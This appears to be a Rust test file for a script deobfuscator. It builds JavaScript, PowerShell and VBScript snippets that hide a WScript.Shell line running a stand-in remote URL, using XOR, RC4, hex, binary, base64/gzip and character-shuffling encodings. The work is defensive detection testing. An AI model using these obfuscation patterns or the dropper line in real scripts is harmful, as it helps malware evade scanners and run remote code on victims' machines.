use super::*;
use crate::code::script::{fold, lexer};
use crate::limits::Limits;

fn read_all(source: &str, dialect: Dialect) -> Undone {
    let mut budget = Budget::new(&Limits::default());
    let tokens = lexer::tokens(source, dialect);
    let folding = fold::fold(&tokens, dialect, &mut budget);
    undone(&tokens, source, dialect, &folding, &mut budget).unwrap()
}

fn read(source: &str, dialect: Dialect) -> String {
    let texts = read_all(source, dialect).texts.into_iter().map(|folded| folded.text);
    texts.collect::<Vec<_>>().join("\n")
}

const PLAIN: &str = "new ActiveXObject('WScript.Shell').Run('https://a.example/x')";

fn coded(each: impl Fn(usize, u32) -> u32) -> Vec<u32> {
    PLAIN.chars().enumerate().map(|(at, c)| each(at, u32::from(c))).collect()
}

fn listed(codes: &[u32], by: &str) -> String {
    codes.iter().map(u32::to_string).collect::<Vec<_>>().join(by)
}

fn lettered(codes: &[u32]) -> String {
    codes.iter().filter_map(|code| char::from_u32(*code)).collect()
}

fn hexadecimal(codes: &[u32]) -> String {
    codes.iter().map(|code| format!("{code:02x}")).collect()
}

/// Sources whose loops hide [`PLAIN`], with the language they are in.
#[expect(clippy::too_many_lines, reason = "a table")]
fn sources() -> Vec<(String, Dialect)> {
    use Dialect::{JavaScript, PowerShell, VisualBasic};
    let xored = coded(|_, code| code ^ 37);
    let added = coded(|_, code| code + 5);
    let keyed = coded(|at, code| code ^ u32::from(b"kEy"[at % 3]));
    let third: String = PLAIN.chars().flat_map(|c| ['q', 'z', c]).collect();
    let pairs: Vec<char> = PLAIN.chars().collect();
    let pairs: String = pairs.chunks(2).flat_map(|pair| pair.iter().rev()).collect();
    let mut enciphered: Vec<u8> = PLAIN.bytes().collect();
    crate::cipher::Rc4::new(b"s3cret").apply(&mut enciphered);
    let enciphered: Vec<u32> = enciphered.into_iter().map(u32::from).collect();
    let tripled = coded(|_, code| code * 3 + 1);
    let around = coded(|_, code| (code + 200) % 256);
    let (first, last): (Vec<_>, Vec<_>) = PLAIN.chars().enumerate().partition(|(at, _)| at % 2 == 0);
    let woven: String = first.iter().chain(last.iter().rev()).map(|(_, c)| c).collect();
    let halves: String = first.iter().chain(&last).map(|(_, c)| c).collect();
    let middle = PLAIN.len().div_ceil(2);
    let (left, right) = PLAIN.split_at(middle);
    let mut right = right.chars();
    let outward: String = left.chars().rev().flat_map(|c| [Some(c), right.next()]).flatten().collect();
    let plain_parts: Vec<String> =
        PLAIN.as_bytes().chunks(4).map(|part| format!("\"{}\"", String::from_utf8_lossy(part))).collect();
    let bits: String = PLAIN.bytes().map(|byte| format!("{byte:08b}")).collect();
    let functions = |each: &dyn Fn(usize, &str) -> String| -> String {
        plain_parts.iter().enumerate().rev().map(|(at, part)| each(at, part)).collect()
    };
    vec![
        (format!("x=\"{outward}\";while(i<n){{c=x.substr(i,1);if(i%2){{r=r+c}}else{{r=c+r}}}}"), JavaScript),
        (
            format!("k=[107,69,121];x=[{}];r+=String.fromCharCode(x[i]^k[i%k.length])", listed(&keyed, ",")),
            JavaScript,
        ),
        (
            format!(
                "x='{}'.split('w');r+=String.fromCharCode(parseInt(x[i],16))",
                PLAIN.bytes().map(|byte| format!("{byte:x}")).collect::<Vec<_>>().join("w")
            ),
            JavaScript,
        ),
        (
            format!("x='{}';String.fromCharCode(parseInt(x.substr(i,8),2))", bits.replace('0', "-")),
            JavaScript,
        ),
        (
            format!(
                "x.{};String.fromCharCode(+('0b'+x))",
                bits.replace('0', "\u{3164}").replace('1', "\u{ffa0}")
            ),
            JavaScript,
        ),
        (
            functions(&|at, part| format!("function a{at}b() {{ t += {part}; }}"))
                + &(0..plain_parts.len()).map(|at| format!("a{at}b();")).collect::<String>(),
            JavaScript,
        ),
        (functions(&|at, part| format!("function q{at}() {{ z({part}); return y(); }}")), JavaScript),
        (functions(&|at, part| format!("w(j({part}), {at});")), JavaScript),
        (
            functions(&|at, part| {
                format!("function p{at}x() {{ return [new String('no'), {part}, new String('x')][1]; }}")
            }) + &(0..plain_parts.len()).map(|at| format!("p{at}x()")).collect::<Vec<_>>().join("+"),
            JavaScript,
        ),
        (
            format!(
                "k=[{}];for(i=k.length-1;i>=0;i--)s+=k[i];",
                plain_parts.iter().rev().cloned().collect::<Vec<_>>().join(",")
            ),
            JavaScript,
        ),
        (
            format!("a=[{}].map(function(c){{return String.fromCharCode((c-1)/3)}})", listed(&tripled, ",")),
            JavaScript,
        ),
        (
            format!(
                "x='{}';a[i]=String.fromCharCode((parseInt(x.substr(i,2),16)-200+256)%256)",
                hexadecimal(&around)
            ),
            JavaScript,
        ),
        (format!("x=\"{woven}\";for(;;){{r+=x.charAt(i)+x.charAt(n-i)}}String.fromCharCode(1)"), JavaScript),
        (format!("x=\"{halves}\";for(i=0;i<n;i+=2){{r+=x.charAt(i)+x.charAt(n+i)}}"), JavaScript),
        (
            format!(
                "$a='{}' -split '-';$b=[char][Convert]::ToInt32($_,16)",
                hexadecimal(&coded(|_, code| code))
            ),
            PowerShell,
        ),
        (
            format!(
                "var a=[{}];for(i=0;i<a.length;i++)r+=String.fromCharCode(a[i]^37);",
                listed(&xored, ",")
            ),
            JavaScript,
        ),
        (
            format!("function f(a,k){{return String.fromCharCode(a[i]^k)}}f([{}],37);", listed(&xored, ",")),
            JavaScript,
        ),
        (
            format!("x='{}';r+=String.fromCharCode(parseInt(x.substr(i,2),16)^37)", hexadecimal(&xored)),
            JavaScript,
        ),
        (
            format!("x='{}'.split('|');r+=String.fromCharCode(parseInt(x[i])-5)", listed(&added, "|")),
            JavaScript,
        ),
        (
            format!(
                "x='{}';k='kEy';r+=String.fromCharCode(parseInt(x.substr(i,2),16)^k.charCodeAt(i%k.length))",
                hexadecimal(&keyed)
            ),
            JavaScript,
        ),
        (format!("x=\"{third}\";for(i=2;i<x.length;i+=3)r+=x.charAt(i);"), JavaScript),
        (format!("x=\"{pairs}\";for(i=0;i<x.length;i+=2)r+=x.substr(i+1,1)+x.substr(i,1);"), JavaScript),
        (
            format!(
                "k='s3cret';S[(a+b)%256];x='{}';r=String.fromCharCode(x.charCodeAt(i)^S[j])",
                hexadecimal(&enciphered)
            ),
            JavaScript,
        ),
        (
            format!("x=\"{}\"\nFor i=1 To Len(x)\nr=r & Chr(Asc(Mid(x,i,1))-5)\nNext", lettered(&added)),
            VisualBasic,
        ),
        (format!("x=\"{third}\"\nFor i=3 To Len(x) Step 3\nr=r & Mid(x,i,1)\nNext"), VisualBasic),
        (format!("x=Array({})\nr=r & Chr(x(i) Xor 37)\na=Split(b)", listed(&xored, ",")), VisualBasic),
        (
            format!(
                "s=WScript.ScriptFullName\nr=r & Chr(CLng(\"&H\" & Mid(x,i,2)) Xor 37)\n'#{}",
                hexadecimal(&xored)
            ),
            VisualBasic,
        ),
        (
            format!(
                "$a=@({});foreach($b in $a){{$o+=[char]($b -bxor 0x25)}};$a.Split()",
                listed(&xored, ",")
            ),
            PowerShell,
        ),
    ]
}

#[test]
fn loops_are_undone() {
    for (source, dialect) in sources() {
        assert!(read(&source, dialect).contains(PLAIN), "{source}");
    }
}

#[test]
fn a_file_behind_a_key_is_found() {
    let file: Vec<u32> = b"PK\x03\x04"
        .iter()
        .chain(&[0; 60])
        .enumerate()
        .map(|(at, byte)| u32::from(byte ^ b"key"[at % 3]))
        .collect();
    let source = format!("k='key';a=[{}];b[i]=a[i]^k.charCodeAt(i%k.length)", listed(&file, ","));
    assert_eq!(read_all(&source, Dialect::JavaScript).files.first().map(|file| file.len()), Some(64));
}

#[test]
fn packed_text_is_inflated() {
    let text = "H4sIAAAAAAACA8tMrVDQyCzKVcgoKSkottLXT9RLrUjMLchJ1dcEADga0zgcAAAA";
    let source = format!("$a=[Convert]::FromBase64String('{text}');New-Object IO.Compression.GzipStream($a)");
    assert!(read(&source, Dialect::PowerShell).contains("https://a.example/"));
}

#[test]
fn what_says_nothing_new_is_left() {
    for source in [
        "x='the window. of the document. says function and return';for(i=0;i<9;i+=1)y=x.charCodeAt(i)^32;z=String.fromCharCode(y)",
        "x=[1,2,3,4,5,6,7,8,9,10];y=x[i]^5;String.fromCharCode(y)",
        "x='abc';x.charAt(1)",
    ] {
        assert_eq!(read(source, Dialect::JavaScript), "", "{source}");
    }
}

#[test]
fn hostile_loops_end() {
    for (source, dialect) in sources() {
        for length in (0..source.len()).filter(|at| source.is_char_boundary(*at)) {
            read(source.get(..length).unwrap(), dialect);
            let mut bytes = source.as_bytes().to_vec();
            bytes[length] ^= 1 << (length % 7);
            read(&String::from_utf8_lossy(&bytes), dialect);
        }
    }
    let wide = format!("a='{}'^5;b=a.charCodeAt(c)^k-d;String.fromCharCode(e);", "abcdefgh".repeat(50));
    read(&wide.repeat(200), Dialect::JavaScript);
}
